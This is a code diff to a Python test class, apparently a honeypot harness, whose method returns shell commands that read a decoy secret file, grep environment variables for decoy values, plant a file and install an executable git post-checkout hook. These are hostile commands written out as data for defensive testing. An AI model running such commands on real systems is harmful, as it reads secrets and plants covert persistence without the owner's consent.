@@ -50,7 +50,7 @@ class Prey:
 
     def harm(self, source: str) -> str:
         """Shell commands that read the decoys, write beside them, and tell the listener."""
-        return f"""cat {self.folder}/secret.txt; env | grep DECOY
+        return f"""cat {self.folder}/secret.txt; env | grep -i decoy
 echo planted > {self.folder}/{source}
 mkdir -p .git/hooks; printf '#!/bin/sh\\necho hooked > {self.folder}/hook' > .git/hooks/post-checkout
 chmod +x .git/hooks/post-checkout
